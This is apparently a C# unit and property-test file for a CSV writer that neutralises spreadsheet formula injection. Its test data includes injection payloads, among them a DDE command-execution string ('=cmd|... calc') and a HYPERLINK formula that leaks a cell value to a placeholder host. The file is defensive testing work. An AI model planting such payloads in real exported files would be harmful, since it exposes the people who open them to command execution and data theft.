using System.Globalization;
using Centric.Domain.Csv;
using Centric.Testing;
using FsCheck.Xunit;
using Microsoft.VisualBasic.FileIO;

namespace Centric.Domain.Tests.Csv;

public class CsvWriterTests
{
    private const string Alphabet = "ab1 ,\"\r\n\t=+-@'.;|(";

    private static string Record(Action<CsvWriter> cells)
    {
        using var text = new StringWriter(CultureInfo.InvariantCulture);
        var csv = new CsvWriter(text);
        cells(csv);
        csv.EndRecord();
        return text.ToString();
    }

    [Theory]
    [InlineData("=1+2", "\"'=1+2\"")]
    [InlineData("+1", "\"'+1\"")]
    [InlineData("-1+2", "\"'-1+2\"")]
    [InlineData("-", "\"'-\"")]
    [InlineData("-1.", "\"'-1.\"")]
    [InlineData("-.5", "\"'-.5\"")]
    [InlineData("-1e5", "\"'-1e5\"")]
    [InlineData("@SUM(A1)", "\"'@SUM(A1)\"")]
    [InlineData("\tcalc", "\"'\tcalc\"")]
    [InlineData("\rcalc", "\"'\rcalc\"")]
    [InlineData("=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\"")]
    [InlineData("=HYPERLINK(\"http://x.example/?\"&A1;\"click\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"click\"\")\"")]
    public void Text_BeginningWithAFormulaCharacter_IsQuotedWithAnApostropheInFront(string value, string field)
    {
        Assert.Equal(field + "\r\n", Record(csv => csv.Text(value)));
        Assert.Equal(field, CsvWriter.TextField(value));
    }

    [Theory]
    [InlineData("country:=1+2", "country:=1+2")]
    [InlineData("a-b", "a-b")]
    [InlineData("x@example.com", "x@example.com")]
    [InlineData("'=already", "'=already")]
    [InlineData("plain", "plain")]
    [InlineData("-1", "-1")]
    [InlineData("-12.50", "-12.50")]
    public void Text_WithAFormulaCharacterOnlyAfterTheStart_IsLeftAsItIs(string value, string field) =>
        Assert.Equal(field, CsvWriter.TextField(value));

    [Theory]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("say \"hi\"", "\"say \"\"hi\"\"\"")]
    [InlineData("one\ntwo", "\"one\ntwo\"")]
    [InlineData("one\r\ntwo", "\"one\r\ntwo\"")]
    [InlineData("\"", "\"\"\"\"")]
    public void Text_WithACommaAQuoteOrALineBreak_IsQuotedWithQuotesDoubled(string value, string field) =>
        Assert.Equal(field, CsvWriter.TextField(value));

    [Fact]
    public void Text_NullOrEmpty_IsAnEmptyField() =>
        Assert.Equal(",,x\r\n", Record(csv => csv.Text(null).Text(string.Empty).Text("x")));

    [Fact]
    public void Numbers_Negative_StayUnquotedNumbersWithoutAnApostrophe() =>
        Assert.Equal(
            "-12.5,-0.25,-3,-1E-05,0\r\n",
            Record(csv => csv.Number(-12.5m).Number(-0.25).Number(-3L).Number(-0.00001).Number(0m)));

    [Fact]
    public void Numbers_NullOrNotFinite_AreEmptyFields() =>
        Assert.Equal(",,,\r\n", Record(csv => csv.Number((decimal?)null).Number((double?)null).Number(double.NaN).Number(double.PositiveInfinity)));

    [Fact]
    public void DaysInstantsAndBooleans_AreInvariant() =>
        Assert.Equal(
            "2025-01-31,2026-03-01T12:00:00.0000000+00:00,true,false\r\n",
            Record(csv => csv.Day(new DateOnly(2025, 1, 31)).Instant(new DateTimeOffset(2026, 3, 1, 12, 0, 0, TimeSpan.Zero)).Boolean(true).Boolean(false)));

    [Fact]
    public void Header_IsOneRecordOfTextCells()
    {
        using var text = new StringWriter(CultureInfo.InvariantCulture);

        new CsvWriter(text).Header("a", "b c", "d,e").Text("1").EndRecord();

        Assert.Equal("a,b c,\"d,e\"\r\n1\r\n", text.ToString());
    }

    [Fact]
    public void HostileRecords_ParseBackToTheirValues_WithNoCellAFormula()
    {
        string[] hostile =
        [
            "=HYPERLINK(\"http://x.example/?\"&A1;\"click\")", "=cmd|' /C calc'!A0", "=1+2", "+1", "-1", "@SUM(A1)",
            "\tleading tab", "\rleading CR", "a,b", "say \"hi\"", "one\r\ntwo", "one\ntwo", "plain",
        ];
        using var text = new StringWriter(CultureInfo.InvariantCulture);
        var csv = new CsvWriter(text).Header("value", "amount");
        foreach (var value in hostile)
        {
            csv.Text(value).Number(-42.5m).EndRecord();
        }

        var records = CsvTable.Parse(text.ToString());

        Assert.Equal(["value", "amount"], records[0]);
        Assert.Equal(hostile.Select(Shown), records.Skip(1).Select(r => r[0]));
        Assert.All(records.Skip(1), r => Assert.Equal("-42.5", r[1]));
        Assert.Empty(CsvTable.Formulas(text.ToString()));
        Assert.Equal(records, FrameworkParse(text.ToString()));
    }

    [Property(MaxTest = 500)]
    public bool AnyText_RoundTripsAsItselfOrWithAnApostrophe_AndIsNeverAFormula(byte[] first, byte[] second, int number)
    {
        var a = Text(first);
        var b = Text(second);

        var written = Record(csv => csv.Text(a).Number(number).Text(b));
        var record = Assert.Single(CsvTable.Parse(written));

        return record.Length == 3
            && record[0] == Shown(a) && record[2] == Shown(b)
            && record[1] == number.ToString(CultureInfo.InvariantCulture)
            && !CsvTable.IsFormula(record[0]) && !CsvTable.IsFormula(record[2]);
    }

    /// <summary>The same text read by the framework's own parser, as a second opinion.</summary>
    private static List<string[]> FrameworkParse(string text)
    {
        using var parser = new TextFieldParser(new StringReader(text))
        {
            TextFieldType = FieldType.Delimited,
            HasFieldsEnclosedInQuotes = true,
            TrimWhiteSpace = false,
        };
        parser.SetDelimiters(",");
        var records = new List<string[]>();
        while (!parser.EndOfData)
        {
            records.Add(parser.ReadFields() ?? []);
        }

        return records;
    }

    private static string Text(byte[]? bytes) =>
        new([.. (bytes ?? []).Select(b => Alphabet[b % Alphabet.Length])]);

    /// <summary>How a text cell reads back: with an apostrophe when it starts as a formula, unless it is a plain negative number.</summary>
    private static string Shown(string value) =>
        CsvWriter.StartsFormula(value.FirstOrDefault()) && !System.Text.RegularExpressions.Regex.IsMatch(value, @"\A-[0-9]+(\.[0-9]+)?\z") ? "'" + value : value;
}
